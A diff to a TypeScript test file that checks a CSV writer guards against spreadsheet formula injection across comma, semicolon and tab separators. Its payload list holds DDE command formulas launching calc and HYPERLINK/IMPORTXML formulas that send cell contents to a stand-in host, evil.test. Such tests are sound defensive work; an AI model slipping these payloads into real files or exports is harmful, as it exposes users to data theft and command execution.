@@ -1,5 +1,5 @@
 import { expect, it } from 'vitest';
-import { csvLine, guarded } from './csv.ts';
+import { csvLine, guarded, type Separator } from './csv.ts';
 
 /**
  * How programs split a file into cells. What follows a closing quote is taken as it is, or may be quoted again; quotes
@@ -42,6 +42,7 @@ const isFormula = (cell: string): boolean =>
   /^[\s\p{Cc}\p{Cf}\p{M}\p{Default_Ignorable_Code_Point}\u2800]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/u.test(cell);
 
 const PAYLOADS = [
+  ...['fine, =1+1', 'a,=1', ',,=1', ', \t=1', '",=1', '"",=1'],
   ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '　=1+1'],
   ...["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3+cmd|" /C calc"!A0', "+cmd|'/c x'!'A1'"],
   ...['=HYPERLINK("http://evil.test?x="&A1,"click")', '=IMPORTXML(CONCAT("//evil.test",A2),"//a")'],
@@ -72,12 +73,16 @@ const PAYLOADS = [
   ],
   ...['","=1+1', '";"=1+1";"', '"\r\n=1+1', 'a"b;=1', "';=1", ';;=1', '; \t=1', '"";"";=1', '\n"=1'],
 ];
+const ALL: readonly Separator[] = ['comma', 'semicolon', 'tab'];
 const CHARACTERS = [...'=+-@;,"\' \t\r\na1', '\u200B', '＝', '\u00A0', '";', '","', '"\r\n', '=1'];
 
 it.each(Object.entries(DIALECTS))('has no formula in any cell that %s reads', (_, dialect) => {
   const isSafe = (...texts: string[]): void => {
-    const file = csvLine([1, ...texts, 2]) + csvLine([...texts.toReversed(), null]) + csvLine(texts);
-    expect(cellsOf(file, dialect).filter(isFormula), JSON.stringify(texts)).toEqual([]);
+    for (const separator of ALL) {
+      const line = (values: (string | number | null)[]) => csvLine(values, separator);
+      const file = line([1, ...texts, 2]) + line([...texts.toReversed(), null]) + line(texts);
+      expect(cellsOf(file, dialect).filter(isFormula), JSON.stringify(texts)).toEqual([]);
+    }
   };
   for (const payload of PAYLOADS) {
     isSafe(payload);
@@ -109,7 +114,7 @@ it('keeps every text, and guards only what could be a formula', () => {
   const all = [...texts, ...PAYLOADS];
   const line = csvLine(all);
   expect(line.endsWith('\r\n')).toBe(true);
-  expect(cellsOf(line.slice(0, -2), whole)).toEqual(all.map(guarded));
+  expect(cellsOf(line.slice(0, -2), whole)).toEqual(all.map((text) => guarded(text)));
   for (const payload of PAYLOADS)
     expect(guarded(payload).replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
   expect(guarded('=1')).toBe("'=1");
@@ -118,8 +123,10 @@ it('keeps every text, and guards only what could be a formula', () => {
   expect(guarded('Bad:\n- slow')).toBe("Bad:\n'- slow");
 });
 
-it('quotes every text and no number', () => {
+it('quotes every text and no number, with any separator', () => {
   expect(csvLine(['a', 5, '', null, 'b"c', 0])).toBe('"a",5,,,"b""c",0\r\n');
+  expect(csvLine(['a', 4.5, null, 'b;c'], 'semicolon')).toBe('"a";4,5;;"b;c"\r\n');
+  expect(csvLine(['a', 4.5], 'tab')).toBe('"a"\t4.5\r\n');
 });
 
 it('takes time in proportion to a long text', () => {
